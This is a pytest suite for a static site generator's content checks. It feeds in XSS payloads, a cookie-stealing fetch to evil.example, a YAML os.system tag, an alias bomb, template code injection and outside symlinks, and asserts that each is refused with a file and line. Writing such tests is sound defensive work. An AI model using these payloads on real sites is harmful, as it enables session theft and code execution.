"""Content that cannot smuggle in script, and content files that cannot hurt the build: raw HTML
is held to an allow-list, titles are escaped, the CSP allows only our templates' scripts, YAML is
read safely, and links leaving content/ are refused. Each is a content error with file and line."""
from __future__ import annotations

import os
import subprocess
import sys
import time

import pytest

from generator.site import csp as assets
from generator.content.errors import ContentErrors
from generator.content.loader import MAX_FILE_BYTES, load_toolkit
from sitekit import ENV, PROJECT, build_site, make_content


def errors_for(content) -> list:
    with pytest.raises(ContentErrors) as info:
        load_toolkit(content)
    return info.value.errors


@pytest.fixture
def content(tmp_path):
    return make_content(tmp_path / "content")


def add_to_body(content, text: str, page: str = "pages/about.md") -> int:
    """Append text to a page's body; returns the file line where it starts."""
    path = content / page
    before = path.read_text(encoding="utf-8")
    path.write_text(before + "\n" + text + "\n", encoding="utf-8")
    return before.count("\n") + 2


MARKUP_FIX = ("Remove it. Content is Markdown: use **bold**, lists, tables and [links](https://\u2026); plain formatting tags such as "
              "<strong> or <abbr> are allowed, but not scripts, styles, forms, frames, on\u2026= attributes or javascript: and data: "
              "addresses. To show code, put it in `backticks`.")


# --- Raw HTML in content -------------------------------------------------------------------------

def test_a_script_in_a_page_is_an_error_with_file_and_line(content):
    n = add_to_body(content, "Some text.\n\n<script>alert('hi')</script>")
    (error,) = errors_for(content)
    assert str(error) == (f"content/pages/about.md:{n + 2}: body: the HTML tag <script> is not allowed in content: a page must "
                          f"not run a script\n    Fix: {MARKUP_FIX}")


@pytest.mark.parametrize("html, problem", [
    ('<img src="x.png" onerror="alert(1)">', "the attribute onerror= on <img> would run a script, which content must not do"),
    ('<a href="javascript:alert(1)">x</a>', "the address href=\u201cjavascript:alert(1)\u201d on <a> is not a web link"),
    ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "the address href=\u201c jav\tascript:alert(1)\u201d on <a> is not a web link"),
    ('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">',
     "the address src=\u201cdata:image/svg+xml,<svg onload=alert(1)>\u201d on <img> is not a web link"),
    ("<iframe src=\"https://example.org\"></iframe>", "the HTML tag <iframe> is not allowed in content"),
    ('<span style="color: red">x</span>', "the attribute style= on <span> is not allowed in content"),
    ("An unclosed <script>alert(1)", "the HTML tag <script> is not allowed in content: a page must not run a script"),
    # the site's Markdown has no fenced code: a line starting with a tag is raw HTML, fences or not
    ("```html\n<script>alert(1)</script>\n```", "the HTML tag <script> is not allowed in content: a page must not run a script"),
    ("<javascript:alert(1)>", "the link <javascript:alert(1)> is not a web or email address"),
    ("[x][1]\n\n[1]: javascript:alert(1)", "the link address \u201cjavascript:alert(1)\u201d is not a web link"),
    ("[x]( javascript:alert(1))", "the link address \u201cjavascript:alert(1)\u201d is not a web link"),
    ('[x](https://example.org){ onclick="alert(1)" }', "the attribute onclick= on <a> would run a script, which content must not do"),
    ("Some text.\n{: onmouseover=alert(1) }", "the attribute onmouseover= on <p> would run a script, which content must not do"),
    ("## Steps {: style='x' }", "the attribute style= on <h2> is not allowed in content"),
    ('<div data-md-component="search">x</div>', "the attribute data-md-component= on <div> is reserved for the site\u2019s own scripts"),
    ("[x](https://example.org){: href='javascript:alert(1)' }", "the address href=\u201cjavascript:alert(1)\u201d on <a> is not a web link"),
])
def test_markup_that_could_run_script_is_refused(content, html, problem):
    n = add_to_body(content, html)
    (error,) = errors_for(content)
    assert (error.path, error.field, error.problem) == ("content/pages/about.md", "body", problem)
    assert n <= error.line <= n + html.count("\n")


def test_a_javascript_link_in_markdown_is_refused_once(content):
    n = add_to_body(content, "[x](javascript:alert(1))")
    (error,) = errors_for(content)
    assert (error.line, error.field, error.problem) == (n, "link", "the link \u201cjavascript:alert(1\u201d is not a form the site understands")


def test_the_markdown_extensions_checked_are_those_the_site_uses():
    import yaml

    from generator.content.markup import MARKDOWN_EXTENSIONS
    from sitekit import PROJECT

    config = yaml.load((PROJECT / "mkdocs.yml").read_text(), Loader=yaml.BaseLoader)
    names = {e if isinstance(e, str) else next(iter(e)) for e in config["markdown_extensions"]}
    # Extensions that can add attributes or raw HTML must be in MARKDOWN_EXTENSIONS; others only add structure.
    structural = {"admonition", "def_list", "tables", "toc"}
    assert names - structural == set(MARKDOWN_EXTENSIONS), "update generator.content.markup.MARKDOWN_EXTENSIONS"


def test_safe_markup_and_code_are_accepted(content):
    add_to_body(content, "\n".join([
        "[A report](https://example.org/a_(b)){: .tk-note #report-link }",
        'Read <abbr title="socio-economic background">SEB</abbr> as <strong>background</strong>.',
        '<a href="https://example.org/report">a report</a>, <a href="#steps">below</a>, <https://example.org>.',
        "To show a tag, write `<script>` or ``<img onerror=x>`` in backticks.",
        *["It is fine to do this. The rest of the page is plain."] * 12,  # keeps the page easy to read
    ]))
    load_toolkit(content)


def test_a_script_in_a_title_or_a_data_file_is_refused(content):
    path = content / "interventions" / "step-0.md"
    path.write_text(path.read_text().replace("title: Step 0", "title: Step 0 <script>alert(1)</script>"))
    glossary = content / "data" / "glossary.yml"
    glossary.write_text(glossary.read_text().replace("definition: Socio-economic background.",
                                                     "definition: <img src=x onerror=alert(1)>"))
    claims = content / "data" / "claims.yml"
    claims.write_text(claims.read_text().replace("text: Our jobs are open to everyone",
                                                 "text: '[Our jobs](https://example.org){ onclick=alert(1) } are open'"))
    errors = errors_for(content)
    assert sorted((e.path, e.line, e.field, e.problem) for e in errors) == [
        ("content/data/claims.yml", 3, "claims[0].text", "the attribute onclick= on <a> would run a script, which content must not do"),
        ("content/data/glossary.yml", 2, "terms[0].definition", "the attribute onerror= on <img> would run a script, which content must not do"),
        ("content/interventions/step-0.md", 2, "title", "the HTML tag <script> is not allowed in content: a page must not run a script"),
    ]


def test_toolkit_check_and_the_build_fail_on_a_script_with_file_and_line(tmp_path):
    content = make_content(tmp_path / "content")
    n = add_to_body(content, "<script>alert(1)</script>")
    check = subprocess.run([sys.executable, "-m", "generator.cli", "--content", str(content), "check"], capture_output=True, text=True, env=ENV)
    assert check.returncode == 1 and f"content/pages/about.md:{n}: body: the HTML tag <script>" in check.stderr
    result = build_site(tmp_path)
    assert result.returncode != 0
    assert f"content/pages/about.md:{n}: body: the HTML tag <script>" in result.stderr
    assert not (tmp_path / "site" / "about" / "index.html").exists()


def test_titles_are_escaped_wherever_the_theme_prints_them(tmp_path):
    """A title may hold an allowed tag or markup characters: they show as text, in <title>, the
    navigation, the heading and the description, and are never escaped twice."""
    content = make_content(tmp_path / "content")
    path = content / "pages" / "about.md"
    path.write_text(path.read_text().replace("title: About", "title: 'Fish & \"chips\" <i>now</i>'")
                    .replace("summary: The about page.", "summary: 'Say \"hello\"><b>x</b>'"))
    result = build_site(tmp_path)
    assert result.returncode == 0, result.stderr
    page = (tmp_path / "site" / "about" / "index.html").read_text(encoding="utf-8")
    escaped = "Fish &amp; &quot;chips&quot; &lt;i&gt;now&lt;/i&gt;"
    assert f"<title>{escaped} - " in page
    assert '<meta name="description" content="Say &quot;hello&quot;&gt;&lt;b&gt;x&lt;/b&gt;">' in page
    assert f">{escaped}</h1>" in page
    other = (tmp_path / "site" / "privacy" / "index.html").read_text(encoding="utf-8")  # the About section of the nav
    assert escaped in other
    for html in (page, other):
        assert "<i>now" not in html and "&amp;amp;" not in html and "&amp;quot;" not in html


# --- The CSP allows only our templates' scripts --------------------------------------------------

OVERRIDES = PROJECT / "site_templates" / "overrides"


def theme_base_script(scope: str = "..") -> str:
    """The theme's start-up script as its template renders it on a page one level down."""
    theme = assets.theme_templates()[0] / assets.THEME_SCRIPT_FOLDER / "base.html"  # Material's
    body = assets._SCRIPT.search(theme.read_text(encoding="utf-8")).group(2)
    return assets._JINJA_VALUE.sub(scope, body)


def test_the_csp_hashes_the_templates_scripts(tmp_path):
    start = assets._SCRIPT.search((OVERRIDES / "partials" / "calculator-start.html").read_text()).group(2)
    page = tmp_path / "calc" / "index.html"
    page.parent.mkdir()
    page.write_text(f'<meta content="{assets.CSP_PLACEHOLDER}"><script>{start}</script>\n<script>{theme_base_script()}</script>'
                    '<script type="application/json">{"x": 1}</script>')
    csp = assets.apply_csp(tmp_path, OVERRIDES)
    assert csp.count("'sha256-") == 2
    assert all(h in csp for h in assets.inline_script_hashes(page.read_text()))


def test_an_unknown_inline_script_fails_the_build_naming_the_page(tmp_path):
    page = tmp_path / "about" / "index.html"
    page.parent.mkdir()
    page.write_text(f"<meta content=\"{assets.CSP_PLACEHOLDER}\">\n<script>{theme_base_script()}</script>\n"
                    "<p>Hello</p>\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n")
    with pytest.raises(assets.UnknownScript) as info:
        assets.apply_csp(tmp_path, OVERRIDES)
    assert str(info.value).startswith("about/index.html:4: an inline script that none of the site\u2019s templates put there: "
                                      "\"fetch('https://evil.example/?' + document.cookie)\"")
    assert assets.CSP_PLACEHOLDER in page.read_text(), "no page gets a policy that would allow it"


def test_a_known_script_with_code_added_is_unknown(tmp_path):
    """A template value may not be used to smuggle code in: it cannot leave its string."""
    page = tmp_path / "index.html"
    smuggled = theme_base_script('..",location),alert(1),("')
    page.write_text("<script>" + smuggled + "</script>")
    with pytest.raises(assets.UnknownScript):
        assets.apply_csp(tmp_path, OVERRIDES)


# --- YAML read safely ----------------------------------------------------------------------------

def test_a_yaml_alias_bomb_is_refused_quickly(content):
    bomb = ["a: &a [x, x, x, x, x, x, x, x, x]"] + [f"{b}: &{b} [{', '.join(['*' + a] * 9)}]"
                                                   for a, b in zip("abcdefgh", "bcdefghi")]
    (content / "data" / "claims.yml").write_text("\n".join(bomb) + "\nclaims: *i\n")
    start = time.perf_counter()
    errors = errors_for(content)
    assert time.perf_counter() - start < 5
    assert [(e.path, e.line, e.problem) for e in errors] == [
        ("content/data/claims.yml", 2, "the YAML uses an alias (*name), which the site does not read")]
    assert errors[0].fix == "Write the value out in full where the alias is; remove the &anchor and *alias marks."


def test_a_python_tag_is_a_content_error(content):
    path = content / "interventions" / "step-0.md"
    path.write_text(path.read_text().replace("effort: low", "effort: !!python/object/apply:os.system ['echo hacked']"))
    (error,) = errors_for(content)
    assert str(error) == ("content/interventions/step-0.md:7: front matter: the YAML has a tag \u201c!!python/object/apply:os.system\u201d, "
                          "which the site does not read\n    Fix: Remove the \u201c!!\u2026\u201d or \u201c!\u2026\u201d tag: write plain text, "
                          "numbers, lists and fields.")


def test_a_duplicate_key_is_an_error_naming_both_lines(content):
    path = content / "interventions" / "step-0.md"
    path.write_text(path.read_text().replace("effort: low", "effort: low\neffort: high"))
    (error,) = errors_for(content)
    assert str(error) == ("content/interventions/step-0.md:8: effort: \u201ceffort\u201d is given twice (also at line 7); YAML would "
                          "silently keep only the last one\n    Fix: Keep one of them and delete the other.")


def test_an_impossible_date_is_a_content_error(content):
    path = content / "data" / "benchmarks.yml"
    path.write_text(path.read_text().replace("date: '2021'", "date: 2021-13-45"))
    (error,) = errors_for(content)
    assert error.path == "content/data/benchmarks.yml" and "month must be in 1..12" in error.problem
    assert "2024-03-31" in error.fix


def test_a_file_over_the_size_limit_is_refused(content):
    path = content / "data" / "glossary.yml"
    path.write_text(path.read_text() + "#" * MAX_FILE_BYTES)
    (error,) = errors_for(content)
    assert str(error) == ("content/data/glossary.yml: file: the file is larger than 1,000 KB, the most the site reads from one file\n"
                          "    Fix: Check it is the file you meant to put here; split a long page into several.")


# --- Files that are links, loops or not files ----------------------------------------------------

def test_a_link_to_a_file_outside_content_is_refused(content, tmp_path):
    secret = tmp_path / "secret.md"
    secret.write_text((content / "pages" / "about.md").read_text().replace("title: About", "title: Secret"))
    os.symlink(secret, content / "pages" / "leak.md")
    (error,) = errors_for(content)
    assert str(error) == (f"content/pages/leak.md: file: the file is a link (symlink), or in a linked folder, that leads to "
                          f"{secret.resolve()}, outside the content folder, and the site would publish it\n"
                          "    Fix: Delete the link and copy the text you want into content/pages/leak.md itself.")


def test_a_link_inside_content_is_accepted(content):
    os.symlink(content / "pages" / "about.md", content / "pages" / "about-us.md")
    errors = errors_for(content)  # accepted as a file; it then duplicates the about page's title
    assert all(e.field == "title" for e in errors)


@pytest.mark.parametrize("make", ["loop", "dangling", "data-loop"])
def test_a_link_loop_or_a_dangling_link_is_a_content_error(content, make):
    if make == "loop":
        path = content / "pages" / "loop.md"
        os.symlink(path, path)
    elif make == "dangling":
        path = content / "pages" / "gone.md"
        os.symlink(content / "pages" / "nothing-here.md", path)
    else:
        path = content / "data" / "claims.yml"
        path.unlink()
        os.symlink(path, path)
    (error,) = errors_for(content)
    shown = "content/" + path.relative_to(content).as_posix()
    assert str(error) == (f"{shown}: file: the file is a link (symlink) that leads nowhere: it points to itself, in a loop, "
                          f"or to a file that does not exist\n    Fix: Delete the link and put the real file at {shown}.")


def test_a_data_folder_that_links_outside_is_refused(content, tmp_path):
    import shutil

    outside = tmp_path / "elsewhere"
    shutil.move(content / "data", outside)
    os.symlink(outside, content / "data")
    errors = errors_for(content)
    assert len(errors) == 5 and {e.path for e in errors} == {f"content/data/{n}.yml" for n in
                                                             ("seb_question", "benchmarks", "glossary", "claims", "advert_rules")}
    assert all("outside the content folder" in e.problem for e in errors)


def test_an_unreadable_file_is_a_content_error(content, monkeypatch):
    """The tests run as root, who can read anything, so the refusal is simulated at open()."""
    from pathlib import Path

    real_open = Path.open

    def refuse(self, *args, **kwargs):
        if self.name == "step-0.md":
            raise PermissionError(13, "Permission denied")
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", refuse)
    (error,) = errors_for(content)
    assert str(error) == ("content/interventions/step-0.md: file: the file cannot be read (permission denied)\n"
                          "    Fix: Check that it is a normal file you can open in your editor, and that you have permission to "
                          "read it (on Linux or macOS: chmod u+r content/interventions/step-0.md).")


def test_a_folder_named_like_a_page_is_a_content_error(content):
    (content / "pages" / "drafts.md").mkdir()
    (error,) = errors_for(content)
    assert str(error) == ("content/pages/drafts.md: file: this is a folder or a special file, not a text file\n"
                          "    Fix: Move it out of content/pages/, or rename it so it does not end in .md.")


def test_a_content_folder_that_links_outside_is_refused(content, tmp_path):
    import shutil

    outside = tmp_path / "elsewhere"
    shutil.move(content / "pages", outside)
    os.symlink(outside, content / "pages")
    errors = errors_for(content)
    assert errors[0].path == "content/pages" and "leaves the content folder" in errors[0].problem


def test_a_build_with_an_inline_script_no_template_of_ours_emits_fails_naming_the_page(tmp_path):
    """End to end: a theme folder that adds a script of its own (as content could, were it let
    through) makes the build fail instead of the CSP allowing it."""
    import shutil

    import yaml

    from sitekit import PROJECT, write_mkdocs_yml

    make_content(tmp_path / "content")
    overrides = tmp_path / "overrides"
    shutil.copytree(PROJECT / "site_templates" / "overrides", overrides)
    main = overrides / "main.html"
    main.write_text(main.read_text().replace("{% endblock %}", "<script>console.log('not ours')</script>\n{% endblock %}", 1))
    config_path = write_mkdocs_yml(tmp_path)
    config = yaml.safe_load(config_path.read_text())
    config["theme"]["custom_dir"] = str(overrides)
    config_path.write_text(yaml.safe_dump(config, sort_keys=False))
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-q", "-f", str(config_path)],
                            cwd=tmp_path, capture_output=True, text=True, env=ENV)
    assert result.returncode != 0
    assert "404.html:" in result.stderr or "index.html:" in result.stderr
    assert "an inline script that none of the site\u2019s templates put there: \"console.log('not ours')\"" in result.stderr


# --- No content, however broken, gives a traceback -----------------------------------------------

SNIPPETS = ["\t", "\u201c", "\u201d", ": ", "- ", "[", "]", "{", "}", "&a ", "*a", "!!python/name:os.system", "!!python/object/apply:os.system ['true']",
            "!!binary x", "&a [1, 2]", "2021-02-30",
            "? ", "---", "\x00", "|", ">", "!foo ", "<<: *a\n", "2021-13-45", "1e999", "~", "<script>", "{: onclick=x}",
            "](javascript:x)", "'", '"', "\\", "\n  ", "\n", "#", "`", "[[insert: x]]"]


def test_no_edit_of_a_content_file_gives_a_traceback(tmp_path_factory):
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    base = make_content(tmp_path_factory.mktemp("fuzz") / "content")
    files = sorted(p.relative_to(base) for p in base.rglob("*") if p.is_file())

    @settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
    @given(st.sampled_from(files), st.lists(st.tuples(st.booleans(), st.floats(0, 1), st.sampled_from(SNIPPETS)), min_size=1, max_size=3))
    def edit(rel, changes):
        path = base / rel
        original = path.read_text(encoding="utf-8")
        text = original
        for as_value, where, snippet in changes:
            if as_value:  # replace the value of a field: where YAML tags, dates and aliases take effect
                lines = text.split("\n")
                fields = [n for n, line in enumerate(lines) if ": " in line] or [0]
                n = fields[int(where * (len(fields) - 1))]
                lines[n] = lines[n].split(": ", 1)[0] + ": " + snippet
                text = "\n".join(lines)
            else:
                i = int(where * len(text))
                text = text[:i] + snippet + text[i:]
        path.write_text(text, encoding="utf-8")
        try:
            load_toolkit(base)
        except ContentErrors as exc:
            assert all(e.path and e.problem and e.fix for e in exc.errors)
        finally:
            path.write_text(original, encoding="utf-8")

    edit()


def test_a_style_the_themes_script_makes_from_a_constant_is_allowed_by_its_hash_alone(tmp_path):
    """Zensical's search dialog adds a <style> made from a string in its script: the CSP allows that
    text by hash (so the dialog is styled), not inline styles in general."""
    import base64
    import hashlib

    scripts = tmp_path / "assets" / "javascripts"
    scripts.mkdir(parents=True)
    css = '.u{content:"\\u00e9"}\n.l{color:red}'
    (scripts / "bundle.0123abcd.min.js").write_text(
        "var Tc='.u{content:\"\\\\u00e9\"}\\n.l{color:red}',Zz=1;function f(){o.appendChild(C(\"style\",{},Tc.toString()))}")
    (tmp_path / "index.html").write_text(f'<meta content="{assets.CSP_PLACEHOLDER}"><p>Hi</p>')
    expected = "'sha256-" + base64.b64encode(hashlib.sha256(css.encode()).digest()).decode() + "'"
    assert assets.theme_style_hashes(tmp_path) == {expected}
    csp = assets.apply_csp(tmp_path, OVERRIDES)
    assert f"style-src 'self' {expected};" in csp and "unsafe-inline" not in csp
    (scripts / "bundle.0123abcd.min.js").write_text("var Tc='.u{}';function f(){}")
    assert assets.theme_style_hashes(tmp_path) == set()
